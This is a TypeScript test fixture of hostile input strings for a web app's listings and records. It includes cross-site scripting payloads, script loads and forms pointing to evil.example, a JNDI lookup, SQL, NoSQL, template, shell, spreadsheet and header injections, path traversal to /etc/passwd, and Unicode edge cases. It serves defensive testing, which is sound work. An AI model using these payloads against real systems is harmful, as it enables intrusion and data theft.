/**
 * What an attacker may write into a listing, a name or a response to break or take over a page. Scripts among them set
 * `window.hostileRan`, so that a test can ask whether one ran. Each is unlike all others.
 */
export interface HostileString {
  what: string;
  text: string;
}

const ran = 'window.hostileRan=true';
const row = (what: string, text: string): HostileString => ({ what, text });

const markup = [
  row('a picture that fails on purpose', `<img src=x onerror="${ran}">`),
  row('a script', `<script>${ran}</script>`),
  row('a script in capitals', `<SCRIPT>${ran}</SCRIPT>`),
  row('a script in a script', `<scr<script>ipt>${ran}</scr</script>ipt>`),
  row('a script from elsewhere', '<script src="https://evil.example/x.js"></script>'),
  row('a script after a closed attribute', `"><script>${ran}</script>`),
  row('a script after a closed single-quoted attribute', `'><script>${ran}</script>`),
  row('a handler in an open attribute', `" autofocus onfocus="${ran}" x="`),
  row('a handler in an unquoted attribute', `x onmouseover=${ran} y`),
  row('a drawing with a handler', `<svg onload="${ran}">`),
  row('a drawing with a script', `<svg><script>${ran}</script></svg>`),
  row('a drawing with an animation', `<svg><animate onbegin="${ran}" attributeName="x" dur="1s">`),
  row('a body with a handler', `<body onload="${ran}">`),
  row('a video that fails', `<video><source onerror="${ran}"></video>`),
  row('details that open', `<details open ontoggle="${ran}">`),
  row('an input that takes the focus', `<input autofocus onfocus="${ran}">`),
  row('a frame with a script', `<iframe srcdoc="<script>parent.${ran}</script>"></iframe>`),
  row('a frame of a script address', `<iframe src="javascript:parent.${ran}"></iframe>`),
  row('an object', `<object data="javascript:${ran}"></object>`),
  row('a form to elsewhere', '<form action="https://evil.example"><button>Pay</button></form>'),
  row('a base address', '<base href="https://evil.example/">'),
  row('a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'),
  row('a style sheet', '<style>*{display:none}</style>'),
  row('a linked style sheet', '<link rel="stylesheet" href="https://evil.example/x.css">'),
  row('an end of the page', '</main></body></html>'),
  row('an end of a title', `</title><script>${ran}</script>`),
  row('an end of a text area', `</textarea><script>${ran}</script>`),
  row('an open comment', '<!--'),
  row('a mutation by namespace', `<math><mtext><table><mglyph><style><img src onerror="${ran}">`),
  row('a shadow root', `<template shadowrootmode=open><script>${ran}</script></template>`),
] as const;

const addresses = [
  row('a script address', `javascript:${ran}`),
  row('a script address in mixed case', `JaVaScRiPt:${ran}`),
  row('a script address behind a tab', `java\tscript:${ran}`),
  row('a script address behind a blank', ` javascript:${ran}`),
  row('a script address behind a control character', `\u0001javascript:${ran}`),
  row('a page as data', `data:text/html,<script>parent.${ran}</script>`),
  row('a drawing as data', `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${ran}"/>`),
  row('a Visual Basic address', 'vbscript:msgbox(1)'),
  row('a file', 'file:///etc/passwd'),
  row('an address without a scheme', '//evil.example/x'),
  row('backslashes for slashes', '\\\\evil.example\\x'),
  row('a way up', '../../../../etc/passwd'),
] as const;

const templates = [
  row('a double-brace template', `{{constructor.constructor('${ran}')()}}`),
  row('a dollar template', `\${${ran}}`),
  row('a server page', '<%= 7*7 %>'),
  row('a Java expression', '#{7*7}'),
  row('a look-up', '${jndi:ldap://evil.example/a}'),
  row('a message pattern', '{0} %s %d %n %@ {name}'),
  row('SQL', "'; DROP TABLE users; --"),
  row('SQL that is always true', "' OR '1'='1"),
  row('a NoSQL operator', '{"$gt":""}'),
  row('a shell command', '$(touch /tmp/hostile); `id`'),
  row('a formula of a spreadsheet', '=HYPERLINK("https://evil.example","Click")'),
  row('a command of a spreadsheet', "@SUM(1+1)*cmd|' /C calc'!A0"),
  row('lines of a header', 'x\r\nSet-Cookie: a=b\r\n\r\n<h1>x'),
  row('entities', `&lt;script&gt;${ran}&lt;/script&gt;`),
  row('numbered entities', '&#60;b&#62;bold&#60;/b&#62;'),
  row('a percent code that is none', '%E0%A4%A'),
  row('escapes of JSON', '\\u003cscript\\u003e\\"'),
] as const;

const letters = [
  row('right to left by force', '\u202etxt.exe'),
  row('an isolate that never ends', '\u2067open'),
  row('Arabic with a number', 'هاتف Pixel 8'),
  row('letters of no width', 'Pi\u200bx\u200de\u2060l\ufeff'),
  row('nothing but letters of no width', '\u200b\u200c\u200d\u2060\ufeff'),
  row('nothing but blanks', ' \u00a0\u2003\u3000 '),
  row('a flood of accents', `Z${'\u0300\u0301\u0315\u0338'.repeat(60)}algo`),
  row('a family of one letter', '👩🏽‍❤️‍💋‍👩🏿 👨‍👩‍👧‍👦 🏴󠁧󠁢󠁳󠁣󠁴󠁿'),
  row('half a pair', 'half \ud83d'),
  row('the other half', '\udcf1 half'),
  row('the character zero', 'zero\u0000zero'),
  row('control characters', '\u0007\u0008\u001b[31mred\u001b[0m\u007f'),
  row('line and paragraph separators', 'one\u2028two\u2029three'),
  row('many lines', 'line\n'.repeat(200)),
  row('a word without end', 'W'.repeat(5_000)),
  row('a text without end', 'a phone '.repeat(2_000)),
  row('a ligature as long as a line', '﷽'.repeat(40)),
  row('lookalike letters', 'раypаl.com'),
  row('the Turkish dotless letter', 'İIıi'),
] as const;

const programs = [
  row('a prototype', '__proto__'),
  row('a constructor', 'constructor'),
  row('a method of every object', 'toString'),
  row('a property that a list has', 'hasOwnProperty'),
  row('no value', 'undefined'),
  row('an empty value', 'null'),
  row('no number', 'NaN'),
  row('an object as text', '[object Object]'),
  row('a truth', 'true'),
  row('a number too large', '1e400'),
  row('a negative number', '-1'),
  row('a number of another base', '0x1F'),
  row('a price with a sign', '$1,000,000,000.00'),
  row('a day that is none', '2026-02-31'),
] as const;

export const hostileStrings: readonly HostileString[] = [
  ...markup,
  ...addresses,
  ...templates,
  ...letters,
  ...programs,
];

/** Every field that any record of the contract has, all with the same hostile text. */
export const hostileRecord = (text: string, place: number) => ({
  ...Object.fromEntries(
    [
      'product_name',
      'name',
      'email',
      'userrole',
      'role',
      'answer',
      'Phone_category',
      'price',
      'Original_price',
      'Resale_price',
      'condition',
      'Condition',
      'Location',
      'details',
      'Seller_Name',
      'Posted_Date',
      'used_year',
      'id',
      'transactionId',
    ].map((field) => [field, text]),
  ),
  _id: place.toString(16).padStart(24, 'b'),
  image_url: '/images/phones/pixel-8-hazel.svg',
});
